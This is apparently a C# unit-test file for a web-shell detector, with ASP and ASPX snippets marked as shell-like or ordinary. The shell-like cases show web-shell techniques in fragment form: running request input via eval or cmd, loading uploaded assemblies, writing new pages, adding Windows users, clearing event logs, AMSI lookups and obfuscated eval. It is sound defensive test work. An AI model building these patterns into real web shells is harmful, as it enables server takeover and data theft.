using System.Diagnostics;
using System.Text;
using Breakwater.Detection.ServerScript;
using Breakwater.Detection.WebFiles;

namespace Breakwater.Detection.Tests.ServerScript;

/// <summary>One hit and one near miss for each trait. The snippets do nothing; telling words are put together here, so that no scanner takes this file for a shell.</summary>
public sealed class PageTraitsTest
{
    private const string Ev = "ev" + "al";
    private const string Ex = "exec" + "ute";
    private const string Rq = "Req" + "uest";
    private const string Cs = "<%@ Page Language=\"C#\" %>";
    private const string Ws = "WScript.Sh" + "ell";

    [Theory]
    [InlineData(".asp", "<%" + Ev + " " + Rq + "(\"x\")%>")]
    [InlineData(".asp", "GIF89a<% dim a, b : a = " + Rq + "(\"x\") : b = a : " + Ex + " b %>")]
    [InlineData(".asp", "<% session(\"k\") = " + Rq + "(\"k\") : " + Ex + " session(\"k\") %>")]
    [InlineData(".asp", "<% Function f(s) " + Ev + " s End Function : f " + Rq + "(\"x\") %>")]
    [InlineData(".asp", "<script runat=server language=jscript>var p = " + Rq + ".form('z'); var w = {'E' : " + Ev + "}; w.E(p + '');</script>")]
    [InlineData(".aspx", "<%@ Page Language=\"Jscript\" %><% var p : String = " + Rq + "[\"\\x61\"]; " + Ev + "(p, \"u\") %>")]
    [InlineData(".asmx", "<%@ WebService Language=\"JScript\" class=\"S\" %> class S { WebMethodAttribute function Go(q : String) { " + Ev + "(q); } }")]
    [InlineData(".soap", "<%@ WebService Language=\"C#\" Class=\"C\" %> class C { [WebMethod] public void Go(string q) { System.Diagnostics.Process.Start(q); } }")]
    [InlineData(".aspx", "<%@ Page Language=\"VB\" %><script runat=server>Sub Go()\n Dim p As New Process()\n p.StartInfo.Arguments = \"/c \" & t.Text\n p.Start()\nEnd Sub</script><asp:TextBox id=t runat=server/>")]
    [InlineData(".asp", "<object runat=server id=o classid=\"clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8\"></object><% o.exec(" + Rq + "(\"c\")) %>")]
    [InlineData(".ashx", "<%@ WebHandler Language=\"C#\" Class=\"H\" %> class H { void P(HttpContext c) { var s = c." + Rq + ".InputStream; s.Read(b, 0, 9); System.Reflection.Assembly.Load(b); } }")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% new LosFormatter().Deserialize(" + Rq + "[\"v\"]); %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% var s = new Socket(a, b, c); s.Connect(" + Rq + ".Headers[\"t\"], 80); %>")]
    [InlineData(".asp", "<% c = \"driver={SQL Server};server=\" & " + Rq + "(\"s\") : conn.open c %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% Registry.LocalMachine.OpenSubKey(" + Rq + "[\"k\"]); %>")]
    [InlineData(".asp", "<% set f = fso.CreateTextFile(" + Rq + "(\"p\"), True) : f.Write " + Rq + "(\"d\") %>")]
    [InlineData(".asp", "<% set f = fso.GetFolder(" + Rq + "(\"p\")) : s.LoadFromFile " + Rq + "(\"f\") %>")]
    [InlineData(".asp", "<% set f = fso.CreateTextFile(Server.MapPath(\"n.asp\")) : f.Write " + Rq + "(\"d\") %>")]
    [InlineData(".asp", "<% set h = CreateObject(\"Microsoft.XMLHTTP\") : s.Write h.responseBody : s.SaveToFile Server.MapPath(\"n.asp\"), 2 %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% System.IO.File.WriteAllText(Server.MapPath(\"n.aspx\"), note); %>")]
    [InlineData(".asp", "<% p = " + Rq + "(\"p\") : set h = CreateObject(\"Microsoft.XMLHTTP\") : h.open \"GET\", \"http://127.0.0.1:\" & p & \"/x\", True %>")]
    [InlineData(".ashx", "<%@ WebHandler Language=\"C#\" Class=\"H\" %> class H { void P(HttpContext c) { var d = c." + Rq + ".BinaryRead(9); var s = p.CreateDecryptor(\"k\", k).TransformFinalBlock(d, 0, 9); AppDomain.CurrentDomain.Load(s); } }")]
    [InlineData(".aspx", "<script language=\"C#\" runat=\"server\">Tool.Main.Go g = new Tool.Main.Go(\"00112233445566778899\");</script>")]
    [InlineData(".asp", "<% set f = fso.CreateTextFile(\"c:\\n.vbs\", True) %>")]
    [InlineData(".asp", "<% set f = fso.CreateTextFile(Server.MapPath(" + Rq + ".ServerVariables(\"SCRIPT_NAME\")), True) : f.Write " + Rq + "(\"d\") %>")]
    [InlineData(".asp", "<% a = words.Item(1) & \"(" + Rq + "(\"\"x\"\"))\" : " + Ex + " a %>")]
    [InlineData(".asp", "<% set o = Server.CreateObject(" + Rq + "(\"o\")) : o.Run " + Rq + "(\"c\") %>")]
    [InlineData(".asp", "<% set o = Server.CreateObject(" + Rq + "(\"o\")) : set p = o : p.Run a %>")]
    [InlineData(".asp", "<% set o = Server.CreateObject(" + Rq + "(\"o\")) : Me.o.Run a %>")]
    [InlineData(".asp", "<% set h = Server.CreateObject(\"Microsoft.XMLHTTP\") : h.open \"POST\", " + Rq + "(\"u\"), False : h.send " + Rq + "(\"b\") %>")]
    [InlineData(".asp", "<% set s = CreateObject(\"Shell.Application\") : set f = fso.GetFile(" + Rq + "(\"f\")) : set d = fso.GetFolder(" + Rq + "(\"p\")) : f.Attributes = " + Rq + "(\"a\") %>")]
    [InlineData(".asp", "<% set h = CreateObject(\"MSXML2.ServerXMLHTTP\") : h.open \"GET\", site, False : h.send : " + Ex + " h.responseText %>")]
    [InlineData(".asp", "<% for each p in Split(" + Rq + "(\"l\"), \",\") : h.open \"GET\", \"http://\" & " + Rq + "(\"s\") & \":\" & p, False : next : set h = CreateObject(\"Microsoft.XMLHTTP\") %>")]
    [InlineData(".asp", "<%@ Language=JScript %><% var f = new Func" + "tion(" + Rq + "(\"x\") + ''); f(); %>")]
    [InlineData(".asp", "<% set c = CreateObject(\"ADODB.Connection\") : set r = c." + Ex + "(" + Rq + "(\"q\")) : for i = 0 to r.Fields.Count - 1 : Response.Write r.Fields(i).Name : next %>")]
    [InlineData(".asp", "<% u = " + Rq + "(\"user\") : p = " + Rq + "(\"pass\") : set f = fso.OpenTextFile(Server.MapPath(\"n.txt\"), 8, True) : f.WriteLine u & p %>")]
    [InlineData(".asp", "<% set o = GetObject(\"WinNT://.\") : set u = o.Create(\"user\", n) : u.SetPassword p : u.SetInfo %>")]
    [InlineData(".asp", "<% if InStr(agent, \"Googlebot\") > 0 then : set h = CreateObject(\"MSXML2.XMLHTTP\") : h.open \"GET\", links, False : h.send : Response.Write h.responseText %>")]
    [InlineData(".asp", "<% set h = CreateObject(\"MSXML2.XMLHTTP\") : h.open \"GET\", far & \"?h=\" & " + Rq + ".ServerVariables(\"HTTP_HOST\") & " + Rq + ".ServerVariables(\"SCRIPT_NAME\") & \"&q=\" & " + Rq + ".ServerVariables(\"QUERY_STRING\"), False : h.send : Response.Write h.responseText %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% Page.ParseControl(" + Rq + "[\"x\"]); %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% System.Windows.Markup.XamlReader.Parse(" + Rq + "[\"x\"]); %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% new System.Net.WebClient().DownloadFile(feed, " + Rq + "[\"p\"]); %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% new System.Net.Http.HttpClient().PostAsync(" + Rq + "[\"u\"], new StringContent(" + Rq + "[\"b\"])); %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% " + Rq + ".InputStream.CopyTo(System.IO.File.Create(" + Rq + "[\"p\"])); %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% AppDomain.CurrentDomain." + "ExecuteAssembly(" + Rq + "[\"x\"]); %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% Assembly.Load(new System.Net.WebClient().DownloadData(site)); %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% if (File.Exists(\"C:/Tools/xagt/xagt.exe\")) { Response.Write(1); } %>")]
    [InlineData(".aspx", "<script runat=server>void Page_Load() { Server.ScriptTimeout = 9999999; var c = new SqlConnection(\"Server=db1;Uid=a;Pwd=b\"); while (r.Read()) for (int i = 0; i < r.FieldCount; i++) Response.Write(r[i]); }</script>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% Response.Write(ConfigurationManager.ConnectionStrings[" + Rq + "[\"n\"]].ConnectionString); %>")]
    [InlineData(".aspx", "<%@ Page Language=\"VB\" %><% Sh" + "ell(\"cmd /c \" & " + Rq + "(\"c\")) %>")]
    [InlineData(".aspx", "<script runat=server>[DllImport(\"msvcrt.dll\")] static extern int system(string c); void Page_Load() { system(" + Rq + "[\"c\"]); }</script>")]
    [InlineData(".cshtml", "@{ CSharpScript." + "EvaluateAsync(" + Rq + "[\"s\"]).Wait(); }")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% var c = CSharpCompilation.Create(\"a\", new[] { CSharpSyntaxTree.ParseText(" + Rq + "[\"s\"]) }); %>")]
    [InlineData(".aspx", "<script runat=server>void Page_Load() { HostingEnvironment.RegisterVirtualPathProvider(new Made()); }</script>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% Assembly.Load(System.IO.File.ReadAllBytes(Server.MapPath(\"logo.png\"))); %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% var o = ((Assembly)Session[\"a\"]).CreateInstance(\"T\"); o.Equals(Context); %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" Src=\"upload/logo.jpg\" Inherits=\"P\" %>")]
    [InlineData(".asp", "<!--#include file=\"images/logo.gif\"-->")]
    [InlineData(".asp", "<% set o = Server.CreateObject(\"x.y\") : " + Ex + " o.Open(\"a8f7a8f7a8f7\") %>")]
    [InlineData(".asp", "<% h.open \"GET\", \"http://127.0.0.1:43958/\", False %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% var m = new ServerManager(); m.Sites.Add(" + Rq + "[\"n\"], path, 81); m.CommitChanges(); %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% Response.Write(System.IO.File.ReadAllText(Server.MapPath(\"~/web.config\"))); %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% foreach (var p in System.IO.File.ReadAllLines(list)) { c.Credentials = new NetworkCredential(\"a\", p); } %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% var b = (byte[])Microsoft.Win32.Registry.GetValue(place, \"c\", null); Assembly.Load(b); %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% Assembly.Load(Convert.FromBase64String(Environment.GetEnvironmentVariable(\"c\"))); %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% var b = (byte[])HttpRuntime.Cache[\"c\"]; var a = Assembly.Load(b); %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% var p = \"C:\\\\Windows\\\\Temp\\\\\" + n; Assembly.LoadFrom(p); %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% var p = Server.MapPath(\"logo.png\"); var b = System.IO.File.ReadAllBytes(p); Assembly.Load(b); %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% Response.TransmitFile(\"~/web.config\"); %>")]
    public void VisitorsInputTakesEffect_IsShellLike(string extension, string page) => Assert.True(Of(page, extension).IsShellLike);

    [Theory]
    [InlineData(".asp", "<% set o = Server.CreateObject(" + Rq + "(\"o\")) : if IsObject(o) then : Response.Write o.Version : end if : set o = Nothing %>")]
    [InlineData(".asp", "<% set o = Server.CreateObject(\"Site.Part\" & " + Rq + "(\"o\")) %>")]
    [InlineData(".asp", "<% set h = Server.CreateObject(\"Microsoft.XMLHTTP\") : h.open \"GET\", " + Rq + "(\"u\"), False : h.send %>")]
    [InlineData(".asp", "<% set h = Server.CreateObject(\"Microsoft.XMLHTTP\") : h.open \"POST\", \"http://api.contoso.example/\" & " + Rq + "(\"u\"), False : h.send " + Rq + "(\"b\") %>")]
    [InlineData(".asp", "<% Response.Write \"Your request (see above)\" : " + Ex + " mode %>")]
    [InlineData(".asp", "<% set f = fso.OpenTextFile(Server.MapPath(" + Rq + ".ServerVariables(\"SCRIPT_NAME\")), 1) %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% var t = Assembly.Load(\"Site.\" + " + Rq + "[\"p\"]); %>")]
    [InlineData(".asp", "<% conn." + Ex + "(\"update t set n=\" & " + Rq + "(\"x\")) %>")]
    [InlineData(".asp", "<% " + Ev + "(\"font\" & " + Rq + "(\"x\")) %>")]
    [InlineData(".asp", "<% n = CInt(" + Rq + "(\"x\")) : " + Ex + " n %>")]
    [InlineData(".asp", "<% if " + Rq + "(\"x\") = mode then " + Ex + " mode %>")]
    [InlineData(".asp", "<% ' " + Ev + " " + Rq + "(\"x\")\n Response.Write 1 %>")]
    [InlineData(".asp", "<% Response.Write \"" + Ev + " \" %><script>" + Ev + "(" + Rq + "(1))</script>")]
    [InlineData(".aspx", "<%@ Page Inherits=\"A\" %><%# " + Ev + "(\"Name\") %><%= " + Rq + ".QueryString[\"q\"] %>")]
    [InlineData(".asp", "<% set f = fso.CreateTextFile(Server.MapPath(\"/up/\") & " + Rq + "(\"p\"), True) : f.Write " + Rq + "(\"d\") %>")]
    [InlineData(".asp", "<% c = \"driver={SQL Server};server=db1;uid=\" & name : conn.open c %>")]
    [InlineData(".asp", "<% set r = conn." + Ex + "(\"select x where i=\" & " + Rq + "(\"i\")) : set f = fso.OpenTextFile(r(\"path\")) : f.Write r(\"d\") %>")]
    [InlineData(".cshtml", "@{ var x = " + Rq + "[\"q\"]; }<script>" + Ev + "(@" + Rq + "[\"q\"])</script>")]
    [InlineData(".asp", "<% set f = fso.CreateTextFile(Server.MapPath(\"menu.asp\")) : f.WriteLine r(\"line\") %>")]
    [InlineData(".asp", "<% Sub Pack(path) : c = \"Provider=Jet;Data Source=\" & path & \"t.mdb\" : e.CompactDatabase c : End Sub : p = Server.MapPath(" + Rq + "(\"p\")) : Pack p %>")]
    [InlineData(".asp", "<% Function A(path) : A = Left(path, 3) : End Function : Sub B(path) : s.SaveToFile path, 2 : s.Write 1 : End Sub : n = A(" + Rq + "(\"p\")) : s.Write n %>")]
    [InlineData(".asp", "<% Sub Report(url, body) : set h = CreateObject(\"Microsoft.XMLHTTP\") : h.open \"POST\", url, False : h.send body : End Sub : Report partner, " + Rq + "(\"b\") %>")]
    [InlineData(".ashx", "<%@ WebHandler Language=\"C#\" Class=\"H\" %> class H { void P(HttpContext c) { c." + Rq + ".Files[0].SaveAs(root + System.Guid.NewGuid() + \".jpg\"); } }")]
    [InlineData(".aspx", "<script language=\"C#\" runat=\"server\">Site.Menu m = new Site.Menu(\"main\");</script>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% var s = System.IO.Path.Combine(root, " + Rq + "[\"f\"]); Response.Write(s); %>")]
    [InlineData(".ashx", "<%@ WebHandler Language=\"C#\" CodeBehind=\"Upload.ashx.cs\" Class=\"Site.Upload\" %>")]
    [InlineData(".asp", "<% set h = CreateObject(\"MSXML2.ServerXMLHTTP\") : h.open \"GET\", site, False : h.send : Response.Write h.responseText %>")]
    [InlineData(".asp", "<% h.open \"GET\", \"http://\" & " + Rq + ".ServerVariables(\"SERVER_NAME\") & \":\" & port & " + Rq + "(\"x\"), False : set h = CreateObject(\"Microsoft.XMLHTTP\") %>")]
    [InlineData(".asp", "<%@ Language=JScript %><% var f = func" + "tion (a) { return a; }; f(" + Rq + "(\"x\")); %>")]
    [InlineData(".asp", "<% set c = CreateObject(\"ADODB.Connection\") : set r = c." + Ex + "(\"select a from t where b=\" & " + Rq + "(\"q\")) : for i = 0 to r.Fields.Count - 1 : Response.Write r.Fields(i).Name : next %>")]
    [InlineData(".asp", "<% u = " + Rq + "(\"user\") : p = " + Rq + "(\"place\") : set f = fso.OpenTextFile(Server.MapPath(\"n.txt\"), 8, True) : f.WriteLine u & p %>")]
    [InlineData(".asp", "<% set o = GetObject(\"WinNT://CORP/\" & name) : Response.Write o.FullName %>")]
    [InlineData(".asp", "<% if InStr(agent, \"Googlebot\") > 0 then : visits = visits + 1 : end if %>")]
    [InlineData(".asp", "<!--#include file=\"set.asp\"--><% set f = fso.CreateTextFile(Server.MapPath(\"set.asp\")) : f.Write \"title=\" & " + Rq + "(\"t\") %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% Page.ParseControl(template); %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% new System.Net.WebClient().DownloadFile(feed, System.IO.Path.GetTempFileName()); %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% new System.Net.Http.HttpClient().PostAsync(partner, new StringContent(" + Rq + "[\"b\"])); %>")]
    [InlineData(".aspx", "<script runat=server>void Page_Load() { var c = new SqlConnection(\"Server=db1;Uid=a;Pwd=b\"); while (r.Read()) for (int i = 0; i < r.FieldCount; i++) Response.Write(r[i]); }</script>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% var c = new SqlConnection(ConfigurationManager.ConnectionStrings[\"Main\"].ConnectionString); var n = " + Rq + "[\"n\"]; %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" Src=\"Default.aspx.cs\" Inherits=\"P\" %><img src=\"logo.jpg\">")]
    [InlineData(".asp", "<!--#include file=\"settings.gif\"--><% Response.Write title %>")]
    [InlineData(".asp", "<!--#include file=\"header.inc\"--><!-- <img src=\"images/logo.gif\"> -->")]
    [InlineData(".asp", "<% " + Ex + " settings.Item(\"start page\") %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% if (user.Equals(" + Rq + "[\"u\"])) { var o = Activator.CreateInstance(kind); } %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% var a = Assembly.Load(\"Site.Parts\"); var t = System.IO.File.ReadAllText(Server.MapPath(\"news.txt\")); %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% var m = new ServerManager(); Response.Write(m.Sites.Count); %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% new SmtpClient(\"mail\") { Credentials = new NetworkCredential(user, word) }.Send(from, to, \"s\", " + Rq + "[\"t\"]); %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% if (string.Equals(context.Request.HttpMethod, \"POST\")) { var o = Activator.CreateInstance(kind); } %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% try { Response.BinaryWrite(System.IO.File.ReadAllBytes(Server.MapPath(\"logo.png\"))); } catch { Response.Write(\"Download failed\" + Assembly.GetExecutingAssembly().GetName().Version); } %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% try { Response.BinaryWrite(c.DownloadData(feed)); } catch { Response.Write(\"Download failed\" + Assembly.GetExecutingAssembly().GetName().Version); } %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% var a = Assembly.Load(System.IO.File.ReadAllBytes(Server.MapPath(\"bin/Site.Parts.dll\"))); var logo = System.IO.File.ReadAllBytes(Server.MapPath(\"logo.png\")); %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% var a = Assembly.Load(Environment.GetEnvironmentVariable(\"SITE_PARTS\")); var n = Session[\"n\"]; byte b = 1; %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% var lines = System.IO.File.ReadAllLines(Server.MapPath(\"mail.txt\")); var m = new SmtpClient(host); m.Credentials = new NetworkCredential(user, word); foreach (var l in lines) { body.Append(l); } %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% foreach (var l in System.IO.File.ReadAllLines(template)) { body.Append(l); } m.Credentials = new NetworkCredential(user, word); %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% try { Response.Write(System.IO.File.ReadAllText(Server.MapPath(\"news.txt\"))); } catch { Response.Write(\"No news: see web.config\"); } %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% var id = new Guid(\"0e439581-43958a-4395-8439-58b343958cde\"); var h = \"localhost\"; var k = \"aGk43958/43958+Zz==\"; %>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% var item = 43958; var lat = 52.43958; %>")]
    public void OrdinaryPage_IsNot(string extension, string page) => Assert.False(Of(page, extension).IsShellLike);

    [Theory]
    [InlineData(".asp", "<% " + Ex + " StrReverse(\")\"\"x\"\"(tseuqer lave\") %>")]
    [InlineData(".asp", "<% a = \"ev\" & \"al(req\" & \"uest(1))\" : " + Ex + " a %>")]
    [InlineData(".asp", "<% a = Chr(101)&Chr(118)&Chr(97)&Chr(108)&Chr(40) : " + Ex + " a & b %>")]
    [InlineData(".asp", "<% p = Chr(84)&Chr(104)&Chr(105)&Chr(115)&Chr(32)&Chr(112)&Chr(114)&Chr(111)&Chr(103)&Chr(114)&Chr(97)&Chr(109)&Chr(32)&Chr(99)&Chr(97)&Chr(110)&Chr(110)&Chr(111)&Chr(116)&b %>")]
    [InlineData(".asp", "<% c = CStr(Session(\"c\")) : " + Ex + " c %>")]
    [InlineData(".asp", "<% a = Array(101,118,97,108,40,114,101,113) : For i = 0 To 7 : s = s & Chr(a(i)) : Next : " + Ex + " s %>")]
    [InlineData(".asp", "<% p = Split(\"e!v!a!l\", \"!\") : " + Ex + " Join(p, \"\") & \"(\" & x & \")\" %>")]
    [InlineData(".asp", "<% Function D(s) : D = s : End Function : " + Ex + " D(\"%119%136%115%126%50%132%119\") %>")]
    [InlineData(".aspx", "<%@ Page Language=\"Jscript\" %><% " + Ev + "(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(\"UmVxdWVzdC5JdGVtWyJ6Il0=\")), u); %>")]
    [InlineData(".aspx", "<%@ Page Language=\"Jscript\" %><% var q = \"u\"; var w = \"afe\"; var a = q + \"ns\" + w; " + Ev + "(s, a); %>")]
    [InlineData(".asp", "<%#@~^CgAAAA==[b:~   K4N0/K3QMAAA==^#~@%>")]
    [InlineData(".aspx", "<%@ Page Language=\"C#\" %><% var n = new string(new char[]{'e','v','a','l','('}); t.GetMethod(n); %>")]
    public void HiddenWords_AreSeen(string extension, string page) => Assert.True(Of(page, extension).RunsInput);

    [Theory]
    [InlineData("<% s = \"a\" & Chr(13) & Chr(10) & Chr(34) : Response.Write s %>")]
    [InlineData("<% s = Chr(108)&Chr(111)&Chr(99)&Chr(97)&Chr(108)&Chr(104)&Chr(111)&Chr(115)&Chr(116) : if h = s then Response.Write s %>")]
    [InlineData("<% s = Split(\"red,green,blue\", \",\") : Response.Write Join(s, \" \") %>")]
    [InlineData("<% w = Array(100, 120, 110, 105, 99) : Response.Write w(0) %>")]
    [InlineData("<% " + Ex + " Load(\"includes/menu.asp\") : Function Load(p) : Load = p : End Function %>")]
    public void PlainConstants_AreNot(string page) => Assert.False(Of(page, ".asp").IsShellLike);

    /// <summary>As the encoder of Windows writes a line that takes what the visitor sends.</summary>
    /// <summary>East Asian letters take two bytes of which the second may be ASCII; the encoder skips both.</summary>
    [Fact]
    public void EncodedScriptWithForeignLetters_IsRead()
    {
        const string Encoded = "#@~^FAAAAA==\u00B0@\u00B0@nX+^!Y\u007FPD\u007F;!n/D`E6r#BgcAAA==^#~@";
        Assert.True(Of("<%@ LANGUAGE = VBScript.Encode %><%" + Encoded + "%>", ".asp").Code.Words.Has("request"));
    }

    [Fact]
    public void EncodedScript_IsRead()
    {
        const string Encoded = "#@~^FAAAAA==nX+^!Y\u007FPD\u007F;!n/D`E6r#BgcAAA==^#~@";
        Assert.True(Of("<%@ LANGUAGE = VBScript.Encode %><%" + Encoded + "%>", ".asp").RunsInput);
        Assert.False(Of("<%@ LANGUAGE = VBScript.Encode %><%#@~^AAAAAA==BgcAAA==^#~@%>", ".asp").IsShellLike);
    }

    [Theory]
    [InlineData("<%@ Page Language=\"C#\" %><% var d = r.CreateDecryptor(k, k); var m = t.InvokeMember(n, f, null, d, Request.BinaryRead(9)); %>", true)]
    [InlineData("<%@ Page Language=\"C#\" %><% var d = r.CreateDecryptor(k, k); Response.Write(Request.BinaryRead(9)); %>", false)]
    [InlineData("<%@ Page Language=\"C#\" %><script runat=server>[DllImport(\"kernel32\")] static extern int VirtualAlloc(int a);</script>", true)]
    [InlineData("<%@ Page Language=\"C#\" %><% var p = new Process(); p.Start(); Response.Write(p.StandardOutput.ReadToEnd()); %>", true)]
    [InlineData("<?xml version=\"1.0\"?><x:stylesheet xmlns:m=\"urn:schemas-microsoft-com:xslt\"><m:script language=\"C#\">1</m:script></x:stylesheet>", true)]
    [InlineData("<?xml version=\"1.0\"?><x:stylesheet xmlns:m=\"urn:schemas-microsoft-com:xslt\"><p/></x:stylesheet>", false)]
    public void ToolsOfIntruders_AreSeen(string page, bool expected) => Assert.Equal(expected, Of(page, ".aspx").IsShellLike);

    /// <summary>Only so much code is read whatever its words are.</summary>
    [Theory]
    [InlineData("Sh" + "ell (\"cmd /c \" & " + Rq + "(\"c\"))")]
    [InlineData("Sh" + "ell _\n(\"cmd /c \" & " + Rq + "(\"c\"))")]
    public void CommandInALongPage_IsSeen(string code)
    {
        var page = "<%@ Page Language=\"VB\" %><% " + string.Concat(Enumerable.Range(0, 60).Select(i => $"n{i} = {i}\n")) + code + "\n%>";
        Assert.True(Of(page, ".aspx").IsShellLike);
    }

    [Theory]
    [InlineData("s = \"cmd /c \" & t", true)]
    [InlineData("s = \"CMD.EXE\"", true)]
    [InlineData("cmd.CommandText = t", false)]
    [InlineData("x.Shell = t", false)]
    public void TellingWords_AreRead(string code, bool expected) => Assert.Equal(expected, Suspicion.IsIn(code));

    [Theory]
    [InlineData("<%@ Page Language=\"C#\" %><% var c = new TcpClient(\"127.0.0.1\", 43958); %>", true)]
    [InlineData("<%@ Page Language=\"C#\" %><% var c = new TcpClient(\"localhost\", int.Parse(\"43958\")); %>", true)]
    [InlineData("<%@ Page Language=\"C#\" %><% var c = new TcpClient(\"127.0.0.1\", 439580); var t = 52.43958; %>", false)]
    [InlineData("<%@ Page Language=\"C#\" %><% var c = new TcpClient(\"localhost\", 25); var k = \"43958-43958/43958==\"; %>", false)]
    public void PortOfServU_IsANumberOfItsOwn(string page, bool expected) => Assert.Equal(expected, Of(page, ".aspx").Names.Contains("asks-own-services"));

    [Fact]
    public void PayloadForAComponent_IsHidden()
    {
        var call = "c.Run(\"" + string.Concat(Enumerable.Repeat("q7Zx", 20)) + "\")\n";
        const string Opening = "<% set c = Server.CreateObject(\"Vendor.Part\")\n";
        Assert.True(Of(Opening + string.Concat(Enumerable.Repeat(call, 60)) + "%>", ".asp").RunsInput);
        Assert.False(Of(Opening + call + "%>", ".asp").RunsInput);
    }

    [Fact]
    public void PagesWithoutTellingWords_AreReadOnSeveralThreads() => Assert.DoesNotContain(true, Enumerable.Range(0, 20_000).AsParallel().Select(i => Of("<p>" + i + "</p>", ".aspx").IsShellLike));

    [Fact]
    public void ClassicPage_NeedsSeveralHardAbilities()
    {
        const string One = "<% set w = CreateObject(\"" + Ws + "\") : Response.Write w.ExpandEnvironmentStrings(\"%TEMP%\")";
        Assert.False(Of(One + " %>", ".asp").IsShellLike);
        Assert.True(Of(One + " : set u = GetObject(\"WinNT://.\") : for each d in fso.Drives : next %>", ".asp").IsShellLike);
    }

    [Fact]
    public void VeryNestedCode_EndsInReasonableTime()
    {
        foreach (var part in new[] { "(", "'\\'", "\"a\"+", "a=b(", "x&x&", "eval(", "{", "$\"{", "<%", "chr(1)&", "f=>", ".a(\"pwd\")", ".clear()" })
        {
            var page = new StringBuilder("<%@ Page Language=\"C#\" %><% EventLog.Load(); eval(Request[1]); x = \"a\"; x");
            page.Insert(page.Length, part, 60_000 / part.Length);
            Assert.NotNull(Of(page.ToString(), ".aspx"));
            Assert.NotNull(Of(page.ToString(), ".asax"));
            Assert.NotNull(Of(page.ToString(), ".asp"));
        }
    }

    /// <summary>Each object was looked for on the whole page by itself: this page took minutes.</summary>
    [Fact]
    public void PageThatMakesManyObjects_IsReadInOnePass()
    {
        var page = "<% " + string.Concat(Enumerable.Range(0, 30_000).Select(i => $"set o{i} = CreateObject(" + Rq + "(1))\n")) + "o29999.Run " + Rq + "(2) %>";
        var watch = Stopwatch.StartNew();
        Assert.True(Of(page, ".asp").IsShellLike);
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(30), watch.Elapsed.ToString());
    }

    /// <summary>Kinds of tools that reporting describes, as harmless stand-ins, each with a page that has the same words and does something ordinary.</summary>
    [Theory]
    [InlineData(".aspx", Cs + "<% foreach (var o in new ManagementObjectSearcher(" + Rq + "[\"q\"]).Get()) Response.Write(o); %>",
        Cs + "<% foreach (var o in new ManagementObjectSearcher(\"select Name from Win32_Printer where Name='\" + " + Rq + "[\"n\"] + \"'\").Get()) Response.Write(o); %>")]
    [InlineData(".aspx", Cs + "<% var s = new ManagementScope(\"\\\\\\\\\" + " + Rq + "[\"h\"] + \"\\\\root\"); s.Connect(); %>",
        Cs + "<% var s = new ManagementScope(\"root\"); s.Connect(); Response.Write(" + Rq + "[\"h\"]); %>")]
    [InlineData(".aspx", Cs + "<% dynamic t = Activator.CreateInstance(Type.GetTypeFromProgID(\"Schedule.Service\")); t.RegisterTaskDefinition(n, d, 6, u, w, 5); %>",
        Cs + "<% var t = schedule.Service; t.Register(" + Rq + "[\"n\"]); %>")]
    [InlineData(".aspx", Cs + "<% foreach (var l in EventLog.GetEventLogs()) l.Clear(); %>",
        Cs + "<% foreach (var l in EventLog.GetEventLogs()) list.Items.Add(l.Log); list.Items.Clear(); %>")]
    [InlineData(".aspx", Cs + "<% EventLogSession.GlobalSession.ClearLog(\"Security\"); %>",
        Cs + "<% log.Clear(\"Security\"); %>")]
    [InlineData(".aspx", "<script runat=server language=\"C#\">void Page_Load() { var a = GetProc(Library(\"amsi.dll\"), \"AmsiScanBuffer\"); }</script>",
